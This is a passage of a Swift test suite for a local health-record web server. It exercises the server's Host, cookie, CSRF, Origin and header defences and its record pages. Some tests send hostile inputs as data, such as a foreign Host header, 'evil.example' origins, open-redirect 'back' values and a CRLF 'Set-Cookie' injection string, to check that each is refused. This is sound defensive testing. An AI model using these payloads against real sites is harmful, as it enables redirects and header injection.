import CCDASamples
import Foundation
import Glibc
import Testing

/// `phr serve` through the real binary and raw sockets: the door (Host, launch token, cookie,
/// origin and CSRF checks), the headers on every answer, the pages, and locking.
@Suite(.serialized) struct ServeTests {
    static let passphrase = "correct horse battery staple"
    static var env: [String: String] { ["PHR_PASSPHRASE": passphrase] }

    /// A running `phr serve --json` and what it printed when ready.
    final class Agent {
        let process: Process
        let url: String
        let address: String
        let port: Int
        let launchFile: String
        let pid: Int32
        let stderr: Pipe

        init(_ cli: CLI, arguments: [String] = []) throws {
            process = Process()
            process.executableURL = URL(fileURLWithPath: CLI.phr)
            process.arguments = ["serve", "--json"] + arguments
            var environment = cli.environment
            for (key, value) in ServeTests.env { environment[key] = value }
            environment["XDG_RUNTIME_DIR"] = cli.runtimeDirectory
            process.environment = environment
            let stdout = Pipe()
            stderr = Pipe()
            process.standardOutput = stdout
            process.standardError = stderr
            try process.run()
            var line: [UInt8] = []
            let handle = stdout.fileHandleForReading
            while true {
                let byte = try handle.read(upToCount: 1) ?? Data()
                guard let first = byte.first else { break }
                if first == UInt8(ascii: "\n") { break }
                line.append(first)
            }
            let ready = try #require(try JSONSerialization.jsonObject(with: Data(line)) as? [String: Any],
                                     "no ready line: \(String(decoding: line, as: UTF8.self)) \(String(decoding: stderr.fileHandleForReading.availableData, as: UTF8.self))")
            url = try #require(ready["url"] as? String)
            launchFile = try #require(ready["launch_file"] as? String)
            pid = Int32(try #require(ready["pid"] as? Int))
            let hostPort = url.dropFirst("http://".count).split(separator: ":")
            address = String(hostPort[0])
            port = Int(hostPort[1])!
        }

        var host: String { "\(address):\(port)" }

        func stop() {
            if process.isRunning { process.terminate() }
            process.waitUntilExit()
        }

        /// The launch token, read from the launch file as a browser would.
        func token() throws -> String {
            let page = try String(contentsOfFile: launchFile, encoding: .utf8)
            let match = try #require(page.range(of: #"name="token" value="([0-9a-f]{64})""#, options: .regularExpression))
            return String(page[match].dropFirst(#"name="token" value=""#.count).dropLast())
        }

        /// Signs in with the launch token; the session cookie and CSRF token.
        func signIn() throws -> (cookie: String, csrf: String) {
            let launch = try request("POST", "/launch", body: "token=\(try token())", headers: ["Origin": "null"])
            #expect(launch.status == 200)
            let setCookie = try #require(launch.header("set-cookie"))
            let cookie = String(setCookie.split(separator: ";")[0])
            let home = try request("GET", "/", headers: ["Cookie": cookie])
            let csrf = try #require(home.body.range(of: #"name="csrf" value="[0-9a-f]{64}""#, options: .regularExpression))
            return (cookie, String(home.body[csrf].dropFirst(#"name="csrf" value=""#.count).dropLast()))
        }

        func request(_ method: String, _ path: String, body: String? = nil, host: String? = nil,
                     headers: [String: String] = [:]) throws -> HTTPAnswer {
            var text = "\(method) \(path) HTTP/1.1\r\nHost: \(host ?? self.host)\r\nConnection: close\r\n"
            for (name, value) in headers { text += "\(name): \(value)\r\n" }
            if let body {
                text += "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: \(body.utf8.count)\r\n"
            }
            text += "\r\n" + (body ?? "")
            return try HTTPAnswer.exchange(address: address, port: port, request: Array(text.utf8))
        }

        /// A POST of `body` as it is, with its own Content-Type.
        func post(_ path: String, bytes body: [UInt8], contentType: String, headers: [String: String] = [:]) throws -> HTTPAnswer {
            var text = "POST \(path) HTTP/1.1\r\nHost: \(host)\r\nConnection: close\r\nContent-Type: \(contentType)\r\n"
            for (name, value) in headers { text += "\(name): \(value)\r\n" }
            text += "Content-Length: \(body.count)\r\n\r\n"
            return try HTTPAnswer.exchange(address: address, port: port, request: Array(text.utf8) + body)
        }
    }

    /// An HTTP/1.1 answer read off a raw socket.
    struct HTTPAnswer {
        var status: Int
        var headers: [(String, String)]
        var bodyBytes: [UInt8]
        var body: String { String(decoding: bodyBytes, as: UTF8.self) }

        func header(_ name: String) -> String? {
            headers.first { $0.0.lowercased() == name.lowercased() }?.1
        }

        static func exchange(address: String, port: Int, request: [UInt8]) throws -> HTTPAnswer {
            let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
            guard fd >= 0 else { throw POSIXError(.EIO) }
            defer { close(fd) }
            var timeout = timeval(tv_sec: 30, tv_usec: 0)
            setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, socklen_t(MemoryLayout<timeval>.size))
            var target = sockaddr_in()
            target.sin_family = sa_family_t(AF_INET)
            target.sin_port = in_port_t(UInt16(port).bigEndian)
            inet_pton(AF_INET, address, &target.sin_addr)
            let connected = withUnsafePointer(to: &target) {
                $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) }
            }
            guard connected == 0 else { throw POSIXError(POSIXErrorCode(rawValue: errno) ?? .EIO) }
            _ = request.withUnsafeBytes { send(fd, $0.baseAddress, $0.count, 0) }
            var answer: [UInt8] = []
            var buffer = [UInt8](repeating: 0, count: 65536)
            while true {
                let count = recv(fd, &buffer, buffer.count, 0)
                if count <= 0 { break }
                answer += buffer[..<count]
            }
            let separator = Array("\r\n\r\n".utf8)
            guard let end = (0..<max(0, answer.count - 3)).first(where: { Array(answer[$0..<($0 + 4)]) == separator }) else {
                throw POSIXError(.EBADMSG)
            }
            let head = String(decoding: answer[..<end], as: UTF8.self).components(separatedBy: "\r\n")
            let status = Int(head[0].split(separator: " ")[1])!
            let headers = head.dropFirst().compactMap { line -> (String, String)? in
                guard let colon = line.firstIndex(of: ":") else { return nil }
                return (String(line[..<colon]), line[line.index(after: colon)...].trimmingCharacters(in: .whitespaces))
            }
            var body = Array(answer[(end + 4)...])
            if headers.contains(where: { $0.0.lowercased() == "transfer-encoding" && $0.1.lowercased() == "chunked" }) {
                body = dechunk(body)
            }
            return HTTPAnswer(status: status, headers: headers, bodyBytes: body)
        }

        static func dechunk(_ bytes: [UInt8]) -> [UInt8] {
            var result: [UInt8] = []
            var index = 0
            while index < bytes.count {
                guard let lineEnd = (index..<(bytes.count - 1)).first(where: { bytes[$0] == 13 && bytes[$0 + 1] == 10 }) else { break }
                let size = Int(String(decoding: bytes[index..<lineEnd], as: UTF8.self).split(separator: ";")[0], radix: 16) ?? 0
                if size == 0 { break }
                result += bytes[(lineEnd + 2)..<min(bytes.count, lineEnd + 2 + size)]
                index = lineEnd + 2 + size + 2
            }
            return result
        }
    }

    static let requiredHeaders = [
        "content-security-policy", "x-content-type-options", "referrer-policy", "cross-origin-opener-policy",
        "cross-origin-resource-policy", "cache-control",
    ]

    static func expectStrictHeaders(_ answer: HTTPAnswer, _ what: String) {
        for name in requiredHeaders {
            #expect(answer.header(name) != nil, "\(what): no \(name)")
        }
        #expect(answer.header("cache-control") == "no-store", "\(what)")
        #expect(answer.header("content-security-policy")?.contains("default-src 'none'") == true, "\(what)")
        #expect(answer.header("content-security-policy")?.contains("frame-ancestors 'none'") == true, "\(what)")
        #expect(answer.header("x-content-type-options") == "nosniff", "\(what)")
    }

    @Test func theDoorRefusesWhatItMust() throws {
        let cli = try CLI(label: "serve")
        defer { cli.cleanUp() }
        _ = try cli.initVault(passphrase: Self.passphrase)
        let agent = try Agent(cli)
        defer { agent.stop() }
        #expect(agent.address.hasPrefix("127."))
        #expect(agent.address != "127.0.0.1" || true)

        // DNS rebinding: a foreign Host is refused before anything else, cookie or not.
        let rebound = try agent.request("GET", "/", host: "attacker.example:\(agent.port)")
        #expect(rebound.status == 403)
        Self.expectStrictHeaders(rebound, "403 for Host")
        #expect(try agent.request("GET", "/", host: "127.0.0.1:\(agent.port)").status == 403 || agent.address == "127.0.0.1")
        #expect(try agent.request("POST", "/launch", body: "token=\(try agent.token())", host: "attacker.example").status == 403)

        // No cookie: 401, and nothing of the records.
        let anonymous = try agent.request("GET", "/")
        #expect(anonymous.status == 401)
        Self.expectStrictHeaders(anonymous, "401")
        #expect(try agent.request("GET", "/emergency").status == 401)
        #expect(try agent.request("GET", "/", headers: ["Cookie": "phr_session=" + String(repeating: "0", count: 64)]).status == 401)

        // The launch file is private; the token opens one session, once.
        var info = stat()
        #expect(stat(agent.launchFile, &info) == 0)
        #expect(info.st_mode & 0o777 == 0o600)
        let token = try agent.token()
        let launch = try agent.request("POST", "/launch", body: "token=\(token)", headers: ["Origin": "null"])
        #expect(launch.status == 200)
        let setCookie = try #require(launch.header("set-cookie"))
        for attribute in ["HttpOnly", "Secure", "SameSite=Strict", "Path=/"] {
            #expect(setCookie.contains(attribute), "\(setCookie)")
        }
        #expect(!FileManager.default.fileExists(atPath: agent.launchFile), "the launch file outlives its use")
        let again = try agent.request("POST", "/launch", body: "token=\(token)", headers: ["Origin": "null"])
        #expect(again.status == 401)
        #expect(again.header("set-cookie") == nil)
        let cookie = String(setCookie.split(separator: ";")[0])

        // Signed in: pages answer, with the headers.
        let home = try agent.request("GET", "/", headers: ["Cookie": cookie])
        #expect(home.status == 200)
        Self.expectStrictHeaders(home, "200")
        #expect(home.body.contains("<title>phr</title>"))
        let csrfRange = try #require(home.body.range(of: #"name="csrf" value="[0-9a-f]{64}""#, options: .regularExpression))
        let csrf = String(home.body[csrfRange].dropFirst(#"name="csrf" value=""#.count).dropLast())
        for path in ["/documents", "/search", "/emergency", "/assets/app.css", "/assets/app.js"] {
            let page = try agent.request("GET", path, headers: ["Cookie": cookie])
            #expect(page.status == 200, "\(path)")
            Self.expectStrictHeaders(page, path)
        }
        let missing = try agent.request("GET", "/documents/zzzzzz", headers: ["Cookie": cookie])
        #expect(missing.status == 404)
        Self.expectStrictHeaders(missing, "404")

        // A change needs this origin and the session's CSRF token.
        let origin = "http://\(agent.host)"
        #expect(try agent.request("POST", "/search", body: "q=x&csrf=\(csrf)", headers: ["Cookie": cookie]).status == 403,
                "no Origin and no Sec-Fetch-Site")
        #expect(try agent.request("POST", "/search", body: "q=x&csrf=\(csrf)",
                                  headers: ["Cookie": cookie, "Origin": "http://evil.example"]).status == 403)
        #expect(try agent.request("POST", "/search", body: "q=x&csrf=\(csrf)",
                                  headers: ["Cookie": cookie, "Sec-Fetch-Site": "cross-site"]).status == 403)
        #expect(try agent.request("POST", "/search", body: "q=x&csrf=\(csrf)", headers: ["Cookie": cookie, "Origin": "null"]).status == 403,
                "Origin null (a sandboxed frame, a file page) without Sec-Fetch-Site")
        #expect(try agent.request("POST", "/search", body: "q=x&csrf=\(csrf)",
                                  headers: ["Cookie": cookie, "Origin": origin, "Sec-Fetch-Site": "same-site"]).status == 403)
        // Chromium sends Origin: null for a form under Referrer-Policy: no-referrer, with Sec-Fetch-Site.
        #expect(try agent.request("POST", "/search", body: "q=x&csrf=\(csrf)",
                                  headers: ["Cookie": cookie, "Origin": "null", "Sec-Fetch-Site": "same-origin"]).status == 303)
        #expect(try agent.request("POST", "/search", body: "q=x", headers: ["Cookie": cookie, "Origin": origin]).status == 403)
        #expect(try agent.request("POST", "/search", body: "q=x&csrf=" + String(repeating: "a", count: 64),
                                  headers: ["Cookie": cookie, "Origin": origin]).status == 403)
        let searched = try agent.request("POST", "/search", body: "q=x&csrf=\(csrf)", headers: ["Cookie": cookie, "Origin": origin])
        #expect(searched.status == 303)
        #expect(searched.header("location") == "/search")
        #expect(try agent.request("GET", "/search", headers: ["Cookie": cookie]).body.contains("value=\"x\""))
        #expect(try agent.request("POST", "/search", body: "q=x&csrf=\(csrf)",
                                  headers: ["Cookie": cookie, "Sec-Fetch-Site": "same-origin"]).status == 303)
        // GET never changes anything: the actions answer only POST.
        #expect(try agent.request("GET", "/doses/take?medication=x", headers: ["Cookie": cookie]).status != 200)

        // Bounded: a form over the limit is refused, and the agent still answers.
        let huge = "q=" + String(repeating: "a", count: 200_000) + "&csrf=\(csrf)"
        #expect(try agent.request("POST", "/search", body: huge, headers: ["Cookie": cookie, "Origin": origin]).status == 413)
        #expect(try agent.request("GET", "/", headers: ["Cookie": cookie]).status == 200)

        // The token never reached the agent's command line.
        let commandLine = try String(contentsOfFile: "/proc/\(agent.pid)/cmdline", encoding: .utf8)
        #expect(!commandLine.contains(token))
    }

    @Test func aFormThatTricklesInIsCutOff() throws {
        let cli = try CLI(label: "serve-slow")
        defer { cli.cleanUp() }
        _ = try cli.initVault(passphrase: Self.passphrase)
        let agent = try Agent(cli)
        defer { agent.stop() }
        let (cookie, csrf) = try agent.signIn()
        // The body says 1000 bytes and sends 20: the agent stops waiting after 10 s.
        let text = "POST /search HTTP/1.1\r\nHost: \(agent.host)\r\nCookie: \(cookie)\r\nOrigin: http://\(agent.host)\r\n"
            + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\nq=x&csrf=\(csrf.prefix(10))"
        let started = Date()
        let answer = try HTTPAnswer.exchange(address: agent.address, port: agent.port, request: Array(text.utf8))
        let waited = Date().timeIntervalSince(started)
        #expect(answer.status == 408)
        #expect(waited >= 9 && waited < 20, "\(waited) s")
        #expect(try agent.request("GET", "/", headers: ["Cookie": cookie]).status == 200)
    }

    @Test func openHandsTheBrowserTheFileNeverTheToken() throws {
        let cli = try CLI(label: "serve-open")
        defer { cli.cleanUp() }
        _ = try cli.initVault(passphrase: Self.passphrase)
        // A stand-in browser opener that records its command line and the file it was given.
        let bin = cli.directory + "/bin"
        try FileManager.default.createDirectory(atPath: bin, withIntermediateDirectories: true)
        let opener = bin + "/xdg-open"
        let seen = cli.directory + "/opened"
        try "#!/bin/sh\nprintf '%s\\n' \"$@\" > \(seen).tmp; cat /proc/$$/cmdline | tr '\\0' ' ' >> \(seen).tmp; mv \(seen).tmp \(seen)\n"
            .write(toFile: opener, atomically: true, encoding: .utf8)
        chmod(opener, 0o755)
        var withOpener = cli
        withOpener.environment["PATH"] = bin + ":/usr/bin:/bin"
        let agent = try Agent(withOpener, arguments: ["--open"])
        defer { agent.stop() }
        var opened = ""
        for _ in 0..<250 where opened.isEmpty {
            opened = (try? String(contentsOfFile: seen, encoding: .utf8)) ?? ""
            usleep(20_000)
        }
        #expect(opened.hasPrefix(agent.launchFile + "\n"), "\(opened)")
        #expect(!opened.contains(try agent.token()))
    }

    @Test func onlyLoopbackAddressesAreServed() throws {
        let cli = try CLI(label: "serve-bind")
        defer { cli.cleanUp() }
        _ = try cli.initVault(passphrase: Self.passphrase)
        // A port already taken: said in words, with the address, exit 69.
        let taken = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        defer { close(taken) }
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        inet_pton(AF_INET, "127.3.3.3", &address.sin_addr)
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        let bound = withUnsafeMutablePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(taken, $0, length) == 0 && listen(taken, 1) == 0 && getsockname(taken, $0, &length) == 0 }
        }
        #expect(bound)
        let port = Int(UInt16(bigEndian: address.sin_port))
        let busy = try cli.run(["serve", "--address", "127.3.3.3", "--port", String(port)],
                               Self.env.merging(["XDG_RUNTIME_DIR": cli.runtimeDirectory]) { $1 })
        #expect(busy.status == 69, "\(busy.stderr)")
        #expect(busy.stderr.hasPrefix("phr: error: cannot listen on 127.3.3.3:\(port)"), "\(busy.stderr)")
        #expect(busy.stderr.contains("phr: hint: choose another --port"), "\(busy.stderr)")

        for address in ["0.0.0.0", "192.168.1.5", "::1", "localhost", "127.0.0.256", "127.1"] {
            let refused = try cli.run(["serve", "--address", address], Self.env)
            #expect(refused.status == 64, "\(address): \(refused.stderr)")
            #expect(refused.stderr.contains("--address"), "\(address)")
        }
    }

    @Test func theAgentLocksWhenIdleAndOnPhrLock() throws {
        let cli = try CLI(label: "serve-lock")
        defer { cli.cleanUp() }
        _ = try cli.initVault(passphrase: Self.passphrase)
        let idle = try Agent(cli, arguments: ["--for", "2s"])
        defer { idle.stop() }
        let started = Date()
        idle.process.waitUntilExit()
        #expect(Date().timeIntervalSince(started) < 15)
        #expect(idle.process.terminationStatus == 0)
        #expect(!FileManager.default.fileExists(atPath: idle.launchFile))
        #expect((try? idle.request("GET", "/")) == nil, "the port still answers after the agent locked")

        let agent = try Agent(cli)
        defer { agent.stop() }
        let (cookie, _) = try agent.signIn()
        #expect(try agent.request("GET", "/", headers: ["Cookie": cookie]).status == 200)
        // phr serve again: the running agent gives a new sign-in link (the old one is spent);
        // no second agent starts.
        let second = try cli.run(["serve", "--json"], ["XDG_RUNTIME_DIR": cli.runtimeDirectory, "PHR_PASSPHRASE": ""])
        #expect(second.status == 0, "\(second.stderr)")
        let again = try #require(try JSONSerialization.jsonObject(with: Data(second.stdout.utf8)) as? [String: Any], "\(second.stdout)")
        #expect(again["url"] as? String == agent.url && again["pid"] as? Int == Int(agent.pid))
        let newFile = try #require(again["launch_file"] as? String)
        #expect(newFile != agent.launchFile)
        let newPage = try String(contentsOfFile: newFile, encoding: .utf8)
        let newToken = try #require(newPage.range(of: #"name="token" value="([0-9a-f]{64})""#, options: .regularExpression)
            .map { String(newPage[$0].dropFirst(#"name="token" value=""#.count).dropLast()) })
        let relaunch = try agent.request("POST", "/launch", body: "token=\(newToken)", headers: ["Origin": "null"])
        #expect(relaunch.status == 200 && relaunch.header("set-cookie") != nil, "the new link signs a browser in")
        #expect(try agent.request("POST", "/launch", body: "token=\(newToken)", headers: ["Origin": "null"]).status != 200, "once")
        #expect(!FileManager.default.fileExists(atPath: newFile), "the used launch file is gone")
        let lock = try cli.run(["lock"], ["XDG_RUNTIME_DIR": cli.runtimeDirectory])
        #expect(lock.status == 0, "\(lock.stderr)")
        #expect(lock.stderr.contains("agent is locked"), "\(lock.stderr)")
        agent.process.waitUntilExit()
        #expect((try? agent.request("GET", "/", headers: ["Cookie": cookie])) == nil)

        // One agent per vault: while another phr serve holds the vault's agent lock (it is
        // starting), a second one does not start.
        let keys = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: "\(cli.vault)/keys.json"))) as? [String: Any])
        let vaultID = try #require(keys["vault_id"] as? String)
        let lockPath = "\(cli.runtimeDirectory)/phr/agent-\(vaultID).lock"
        let held = open(lockPath, O_RDONLY)
        #expect(held >= 0 && flock(held, LOCK_EX) == 0, "the agent lock file is there")
        let starting = try cli.run(["serve"], Self.env.merging(["XDG_RUNTIME_DIR": cli.runtimeDirectory]) { $1 })
        #expect(starting.status == 69, "\(starting.stderr)")
        #expect(starting.stderr.contains("another phr serve is starting"), "\(starting.stderr)")
        close(held)
    }

    @Test func detachReturnsOnceReadyAndLeavesTheAgentRunning() throws {
        let cli = try CLI(label: "serve-detach")
        defer { cli.cleanUp() }
        _ = try cli.initVault(passphrase: Self.passphrase)
        let env = Self.env.merging(["XDG_RUNTIME_DIR": cli.runtimeDirectory]) { $1 }
        let detached = try cli.run(["serve", "--detach", "--json"], env, timeout: 60)
        #expect(detached.status == 0, "\(detached.stderr)")
        let ready = try #require(try JSONSerialization.jsonObject(with: Data(detached.stdout.utf8)) as? [String: Any])
        let pid = Int32(try #require(ready["pid"] as? Int))
        defer { kill(pid, SIGKILL) }
        #expect(kill(pid, 0) == 0, "the agent is not running")
        let environ = (try? Data(contentsOf: URL(fileURLWithPath: "/proc/\(pid)/environ"))) ?? Data()
        #expect(!String(decoding: environ, as: UTF8.self).contains("PHR_PASSPHRASE"), "the agent got the passphrase")
        let lock = try cli.run(["lock"], ["XDG_RUNTIME_DIR": cli.runtimeDirectory])
        #expect(lock.status == 0)
        var gone = false
        for _ in 0..<250 where !gone {
            gone = kill(pid, 0) != 0 || (try? String(contentsOfFile: "/proc/\(pid)/stat", encoding: .utf8))?.contains(") Z") == true
            usleep(20_000)
        }
        #expect(gone)
    }

    /// Settings shows the sync's state (docs/sync.md) and syncs on request: what another
    /// device sent arrives, and the page says so.
    @Test func settingsShowTheSyncAndSyncNow() throws {
        let cli = try CLI(label: "serve-sync")
        defer { cli.cleanUp() }
        _ = try cli.initVault(passphrase: Self.passphrase)
        let before = try Agent(cli)
        let (firstCookie, _) = try before.signIn()
        let unsynced = try before.request("GET", "/settings", headers: ["Cookie": firstCookie])
        #expect(unsynced.body.contains("This vault is not synced with another device"), "\(unsynced.body)")
        before.stop()

        let shared = "\(cli.directory)/shared", other = "\(cli.directory)/vault-b"
        try FileManager.default.createDirectory(atPath: shared, withIntermediateDirectories: true)
        for arguments in [["sync", "init"], ["sync", "remote", "add", "usb", shared], ["sync"]] {
            let result = try cli.run(arguments, Self.env)
            #expect(result.status == 0, "\(arguments): \(result.stderr)")
        }
        let enrol = try cli.run(["sync", "enroll", "--out", "\(cli.directory)/enrol.phr"], Self.env)
        let code = try #require(enrol.stderr.split(separator: "\n").last.map(String.init))
        #expect(try cli.run(["sync", "join", "\(cli.directory)/enrol.phr", "--vault", other], Self.env.merging(["PHR_SYNC_CODE": code]) { $1 }).status == 0)
        #expect(try cli.run(["allergy", "add", "Latex", "--vault", other], Self.env).status == 0)
        #expect(try cli.run(["sync", "--vault", other], Self.env).status == 0)

        let agent = try Agent(cli)
        defer { agent.stop() }
        let (cookie, csrf) = try agent.signIn()
        let settings = try agent.request("GET", "/settings", headers: ["Cookie": cookie])
        #expect(settings.body.contains("Sync between devices") && settings.body.contains("usb: \(shared)"), "\(settings.body)")
        #expect(settings.body.contains("1 change log"), "what waits on the remote")
        #expect(settings.body.contains("action=\"/settings/sync\""))
        let synced = try agent.request("POST", "/settings/sync", body: "csrf=\(csrf)", headers: ["Cookie": cookie, "Origin": "http://\(agent.host)"])
        #expect(synced.status == 303)
        let after = try agent.request("GET", "/settings", headers: ["Cookie": cookie])
        #expect(after.body.contains("Synced: sent 0 changes, applied 1 from 1 log."), "\(after.body)")
        #expect(after.body.contains("<dt>To receive</dt><dd>nothing</dd>"))
        let allergies = try agent.request("GET", "/records", headers: ["Cookie": cookie])
        #expect(allergies.body.contains("Latex"), "the other device's allergy arrived")
    }

    @Test func pagesShowTheRecordsAndTakeADose() throws {
        let cli = try CLI(label: "serve-pages")
        defer { cli.cleanUp() }
        _ = try cli.initVault(passphrase: Self.passphrase)
        let samples = "\(CLI.packageRoot)/Samples/documents"
        let add = try cli.run(["doc", "add", "\(samples)/lab-report-cbc-ferritin.pdf", "--json"], Self.env)
        #expect(add.status == 0, "\(add.stderr)")
        let docID = try #require(add.stdout.range(of: #""id" *: *"[0-9a-z]{6}""#, options: .regularExpression)
            .map { String(add.stdout[$0].suffix(7).dropLast()) })
        #expect(try cli.run(["med", "add", "Ibuprofen <b>", "--dose", "400 mg", "--every", "8h", "--min-interval", "4h"], Self.env).status == 0)
        #expect(try cli.run(["allergy", "add", "Penicillin", "--severity", "severe"], Self.env).status == 0)

        let agent = try Agent(cli)
        defer { agent.stop() }
        let (cookie, csrf) = try agent.signIn()
        let origin = "http://\(agent.host)"
        let home = try agent.request("GET", "/", headers: ["Cookie": cookie])
        #expect(home.body.contains("Ibuprofen &lt;b&gt;"), "record text is escaped")
        #expect(!home.body.contains("Ibuprofen <b>"))
        let medID = try #require(home.body.range(of: #"name="medication" value="[0-9a-z]+""#, options: .regularExpression)
            .map { String(home.body[$0].dropFirst(#"name="medication" value=""#.count).dropLast()) })
        let take = try agent.request("POST", "/doses/take", body: "medication=\(medID)&csrf=\(csrf)", headers: ["Cookie": cookie, "Origin": origin])
        #expect(take.status == 303)
        let after = try agent.request("GET", "/", headers: ["Cookie": cookie])
        #expect(after.body.contains("Took Ibuprofen &lt;b&gt;"), "\(after.body)")
        // The next dose is hours away: listed with its time, without Take or Skip.
        #expect(after.body.contains("Ibuprofen &lt;b&gt;</strong> 400 mg"))
        #expect(!after.body.contains("action=\"/doses/take\""), "a dose hours ahead offers Take")
        let shown = try cli.run(["med", "show", medID, "--json"], Self.env)
        #expect(shown.stdout.contains("\"taken\""), "\(shown.stdout)")
        // A second dose at once: the dose guard refuses and the page says why.
        _ = try agent.request("POST", "/doses/take", body: "medication=\(medID)&csrf=\(csrf)", headers: ["Cookie": cookie, "Origin": origin])
        let refused = try agent.request("GET", "/", headers: ["Cookie": cookie])
        #expect(refused.body.contains("flash-error"), "\(refused.body)")

        let documents = try agent.request("GET", "/documents", headers: ["Cookie": cookie])
        #expect(documents.body.contains("/documents/\(docID)"))
        let viewer = try agent.request("GET", "/documents/\(docID)", headers: ["Cookie": cookie])
        #expect(viewer.status == 200)
        #expect(viewer.body.contains("Ferritin"), "the extracted text is beside the pages")
        let image = try agent.request("GET", "/documents/\(docID)/pages/1?size=full", headers: ["Cookie": cookie])
        #expect(image.status == 200)
        #expect(image.header("content-type") == "image/png")
        #expect(Array(image.bodyBytes.prefix(8)) == [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A])
        #expect(try agent.request("GET", "/documents/\(docID)/pages/3", headers: ["Cookie": cookie]).status == 404)
        let original = try agent.request("GET", "/documents/\(docID)/original", headers: ["Cookie": cookie])
        #expect(original.status == 200)
        #expect(original.header("content-disposition")?.hasPrefix("attachment") == true)
        #expect(original.header("content-security-policy")?.hasPrefix("sandbox") == true)
        #expect(original.header("content-type") == "application/octet-stream")
        #expect(Array(original.bodyBytes.prefix(5)) == Array("%PDF-".utf8))

        let search = try agent.request("POST", "/search/live", body: "q=ferritin&csrf=\(csrf)", headers: ["Cookie": cookie, "Origin": origin])
        #expect(search.status == 200)
        #expect(search.body.contains("<mark>"), "\(search.body)")
        #expect(search.body.contains("/documents/\(docID)"))

        // The profile switch comes back to the page it was on; a foreign "back" goes home.
        _ = try cli.run(["profile", "add", "Sam"], Self.env)
        let switched = try agent.request("POST", "/profile", body: "profile=Sam&back=%2Femergency&csrf=\(csrf)",
                                         headers: ["Cookie": cookie, "Origin": origin])
        #expect(switched.header("location") == "/emergency")
        for foreign in ["%2F%2Fevil.example", "%2F%5Cevil.example", "https%3A%2F%2Fevil.example", "%2Fx%0D%0ASet-Cookie%3A+a%3Db"] {
            let answer = try agent.request("POST", "/settings", body: "theme=dark&back=\(foreign)&csrf=\(csrf)",
                                           headers: ["Cookie": cookie, "Origin": origin])
            #expect(answer.header("location") == "/", "\(foreign)")
        }
        let paged = try agent.request("POST", "/settings", body: "theme=dark&back=%2Fdocuments%3Fpage%3D2&csrf=\(csrf)",
                                      headers: ["Cookie": cookie, "Origin": origin])
        #expect(paged.header("location") == "/documents?page=2", "a page of a list comes back to that page")
        let pagedForeign = try agent.request("POST", "/settings", body: "theme=dark&back=%2Fdocuments%3Fq%3Dx&csrf=\(csrf)",
                                             headers: ["Cookie": cookie, "Origin": origin])
        #expect(pagedForeign.header("location") == "/documents")
        #expect(try agent.request("GET", "/emergency", headers: ["Cookie": cookie]).body.contains("Sam (no name set)"))
        _ = try agent.request("POST", "/profile", body: "profile=me&csrf=\(csrf)", headers: ["Cookie": cookie, "Origin": origin])
        let emergency = try agent.request("GET", "/emergency", headers: ["Cookie": cookie])
        #expect(emergency.body.contains("Penicillin"))
        #expect(emergency.body.contains("severe"))
    }
}

extension ServeTests {
    /// A lab report's rows reviewed as a form: nothing saved on reading them; a refused row is
    /// said with its number and what was typed stays; a dropped row is not saved, a corrected
    /// one is saved as corrected; saving again leaves the saved ones alone.
    @Test func labReviewSavesOnlyWhatWasKept() throws {
        let cli = try CLI(label: "serve-review")
        defer { cli.cleanUp() }
        _ = try cli.initVault(passphrase: Self.passphrase)
        let added = try cli.run(["doc", "add", "\(CLI.packageRoot)/Samples/documents/lab-report-cbc-ferritin.pdf", "--json"], Self.env)
        let docID = try #require(added.stdout.range(of: #""id" *: *"[0-9a-z]{6}""#, options: .regularExpression)
            .map { String(added.stdout[$0].suffix(7).dropLast()) })
        let agent = try Agent(cli)
        defer { agent.stop() }
        let (cookie, csrf) = try agent.signIn()
        let origin = "http://\(agent.host)"
        func post(_ path: String, _ body: String) throws -> HTTPAnswer {
            try agent.request("POST", path, body: body + "&csrf=\(csrf)", headers: ["Cookie": cookie, "Origin": origin])
        }
        func get(_ path: String) throws -> String { try agent.request("GET", path, headers: ["Cookie": cookie]).body }

        #expect(try get("/documents/\(docID)").contains("href=\"/documents/\(docID)/labs\""))
        let review = try get("/documents/\(docID)/labs")
        let rows = review.components(separatedBy: "name=\"keep-").count - 1
        #expect(rows == 22, "\(review)")
        #expect(try cli.run(["lab", "list", "--json"], Self.env).stdout.filter { !$0.isWhitespace } == "[]", "reading saves nothing")
        func reading(_ page: String) throws -> String {
            try #require(page.range(of: #"name="reading" value="[0-9a-f]{32}""#, options: .regularExpression)
                .map { String(page[$0].dropFirst(#"name="reading" value=""#.count).dropLast()) })
        }
        let token = try reading(review)
        // A form from another reading (a stale tab) is refused whole.
        #expect(try post("/documents/\(docID)/labs", "reading=" + String(repeating: "0", count: 32) + "&keep-1=1").header("location") == "/documents/\(docID)/labs")
        #expect(try get("/documents/\(docID)/labs").contains("earlier reading"))
        // Every row kept as read, but row 1 dropped and row 22 (ferritin 8) corrected to 9.
        var form = "reading=\(token)&" + (2...22).map { "keep-\($0)=1" }.joined(separator: "&") + "&collected=2025-03-18"
        let wrong = form + "&value-3=lots"
        _ = try post("/documents/\(docID)/labs", wrong)
        let refused = try get("/documents/\(docID)/labs")
        #expect(refused.contains("Row 3 (Hemoglobin)") && refused.contains("value=\"lots\" size=\"8\" aria-invalid=\"true\""), "\(refused)")
        form += "&value-22=9"
        let saved = try post("/documents/\(docID)/labs", form)
        #expect(saved.status == 303 && saved.header("location")?.hasPrefix("/labs/") == true)
        #expect(try get(saved.header("location")!).contains("Saved 21 results from this report."))
        let list = try #require(try JSONSerialization.jsonObject(with: Data(try cli.run(["lab", "list", "--json"], Self.env).stdout.utf8)) as? [[String: Any]])
        #expect(list.count == 21 && !list.contains { ($0["name"] as? String)?.hasPrefix("White blood cells") == true }, "the dropped row is not saved")
        let ferritin = list.first { ($0["name"] as? String) == "Ferritin" }
        #expect(ferritin.flatMap { $0["value_number"] as? Double } == 9, "the corrected value is saved: \(String(describing: ferritin))")
        // Read again and saved again: nothing is saved twice.
